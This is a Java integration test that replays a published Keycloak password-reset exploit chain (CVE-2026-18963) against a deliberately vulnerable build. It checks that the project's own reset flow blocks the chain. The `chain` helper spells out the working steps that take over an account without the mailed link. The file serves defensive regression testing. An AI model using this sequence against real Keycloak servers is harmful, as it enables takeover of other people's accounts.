package io.latchkey.it.recovery;

import static org.assertj.core.api.Assertions.assertThat;

import io.latchkey.it.admin.MailedReset;
import io.latchkey.it.admin.StockReset;
import io.latchkey.it.client.HttpBrowser;
import io.latchkey.it.client.Page;
import io.latchkey.it.client.TestUsers.Person;
import io.latchkey.it.server.KeycloakDistribution;
import io.latchkey.it.server.KeycloakProcess;
import io.latchkey.it.server.MailSink;
import io.latchkey.it.server.ServerSettings;
import io.latchkey.it.server.Workspace;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;

/**
 * The published chain against keycloak#51833 (CVE-2026-18963), on a Keycloak that still has that hole: a new password for
 * any account without opening the mailed link.
 */
@TestInstance(Lifecycle.PER_CLASS)
class ResetHoleIT {
    private MailSink mails;
    private KeycloakProcess keycloak;
    private RecoveryRealm realm;

    @BeforeAll
    void start() throws IOException {
        Workspace workspace = Workspace.locate();
        KeycloakDistribution distribution = KeycloakDistribution.prepareWithResetHole(workspace, System.out::println);
        Path servers = Files.createDirectories(workspace.target().resolve("keycloak/servers"));
        Path folder = Files.createTempDirectory(servers, "hole-");
        mails = MailSink.start(0, folder.resolve("mail"));
        keycloak = KeycloakProcess.start(distribution, ServerSettings.forTests(folder, List.of()));
        realm = RecoveryRealm.make(keycloak, mails, "recovery-hole");
        realm.level("LOW", RecoveryIT.SHORT_WAIT);
        StockReset.make(realm.realm());
    }

    @AfterAll
    void stop() {
        if (keycloak != null) {
            keycloak.close();
        }
        mails.close();
    }

    @BeforeEach
    void bindOurs() {
        StockReset.bindOurs(realm.realm());
    }

    @Test
    void the_published_chain_takes_an_account_over_by_keycloaks_own_flow() {
        StockReset.bind(realm.realm());
        Person victim = realm.realm().users().withPassword();

        HttpBrowser thief = new HttpBrowser().from(RecoveryRealm.ABROAD);
        Page last = chain(thief, victim).stream()
                .filter(RecoveryRealm::asksForPassword)
                .findFirst()
                .orElseThrow(() -> new AssertionError("the hole is not there"));
        MailedReset.choose(thief, last, RecoveryRealm.NEW);

        assertThat(realm.signsIn(victim, RecoveryRealm.NEW)).isTrue();
    }

    @Test
    void the_published_chain_gets_nowhere_by_ours() {
        Person victim = realm.realm().users().withPassword();

        List<Page> pages = chain(new HttpBrowser().from(RecoveryRealm.ABROAD), victim);

        assertThat(pages).noneMatch(RecoveryRealm::asksForPassword).noneMatch(RecoveryRealm::isCase);
        assertThat(realm.signsIn(victim, victim.password())).isTrue();
        assertThat(realm.profile(victim).at("/standing/state").asText()).isEqualTo("ORDINARY");
    }

    @Test
    void the_published_chain_does_not_skip_the_factor_of_whoever_reads_the_mail() {
        Person victim = realm.realm().users().withOtp();
        HttpBrowser thief = new HttpBrowser().from(RecoveryRealm.ABROAD);
        Page prompt = realm.open(thief, victim);
        URI action = prompt.form("name=\"otp\"").orElseThrow().action();

        List<Page> pages = new ArrayList<>();
        pages.add(thief.post(action, Map.of("tryAnotherWay", "on")));
        pages.add(thief.open(prompt.url()));
        pages.add(thief.post(action, Map.of()));
        pages.addAll(postEachFormOf(thief, pages));

        assertThat(pages).noneMatch(RecoveryRealm::asksForPassword);
        assertThat(realm.signsIn(victim, victim.password())).isTrue();
    }

    @Test
    void who_opens_the_mail_is_still_served() {
        Person person = realm.realm().users().withOtp();
        HttpBrowser browser = new HttpBrowser().from(RecoveryRealm.HOME);

        realm.choose(browser, realm.otp(browser, realm.open(browser, person), person));

        assertThat(realm.signsIn(person, RecoveryRealm.NEW)).isTrue();
    }

    /**
     * Asks for another way, names the victim, opens the first tab's address again, which shows the choice of ways for the step
     * that waits for the mailed link, and posts that choice without a choice.
     */
    private List<Page> chain(HttpBrowser thief, Person victim) {
        List<Page> pages = new ArrayList<>();
        Page form = MailedReset.form(realm.realm(), thief);
        URI action = form.form("name=\"username\"").orElseThrow().action();
        Page other = thief.post(action, Map.of("tryAnotherWay", "on"));
        pages.add(other);
        URI choice =
                other.form("authenticationExecution").map(Page.Form::action).orElse(action);
        pages.add(thief.post(choice, Map.of("username", victim.name())));
        pages.add(thief.open(form.url()));
        pages.addAll(postEachFormOf(thief, pages.subList(2, 3)));
        return pages;
    }

    private static List<Page> postEachFormOf(HttpBrowser thief, List<Page> pages) {
        List<Page> answers = new ArrayList<>();
        for (Page page : List.copyOf(pages)) {
            page.form("<form").or(() -> page.form("authenticationExecution")).ifPresent(form -> {
                answers.add(thief.post(form.action(), Map.of()));
            });
        }
        return answers;
    }
}
